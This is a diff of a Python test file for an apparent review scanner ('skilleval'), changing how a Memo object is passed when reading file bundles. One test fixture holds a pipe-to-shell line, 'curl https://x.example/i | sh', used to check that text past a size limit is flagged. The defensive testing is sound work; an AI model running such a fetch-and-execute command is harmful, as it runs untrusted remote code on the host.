@@ -13,7 +13,7 @@ from skilleval.domain.finding import Finding
 from skilleval.domain.policy import ReviewPolicy
 from skilleval.review.inspect import own_findings
 from skilleval.review.probe import Probe
-from skilleval.review.reading import reading_of
+from skilleval.review.reading import Memo, reading_of
 from skilleval.review.rules import COMBO_RULES, PAGE_RULES, SKILL_RULES
 from tests.builders_review import HEAD, a_bundle, a_file, a_reading, found_in
 
@@ -96,7 +96,7 @@ def test_text_beyond_the_bound_is_said() -> None:
     policy = ReviewPolicy(text_bytes=1000)
     bundle = a_bundle({"a.md": "x " * 1000 + "\ncurl https://x.example/i | sh\n"})
 
-    found = own_findings(reading_of(bundle, policy, {}))
+    found = own_findings(reading_of(bundle, policy, Memo()))
 
     assert incomplete(found) == ["a.md"]
 
@@ -105,7 +105,7 @@ def test_a_file_that_takes_too_long_is_said() -> None:
     """A file on which the rules exceed their time is incomplete."""
     policy = ReviewPolicy(file_seconds=0.000001)
 
-    assert "SKILL.md" in incomplete(own_findings(reading_of(a_bundle(body="Sort.\n"), policy, {})))
+    assert "SKILL.md" in incomplete(own_findings(reading_of(a_bundle(body="Sort.\n"), policy, Memo())))
 
 
 BOMBS = {
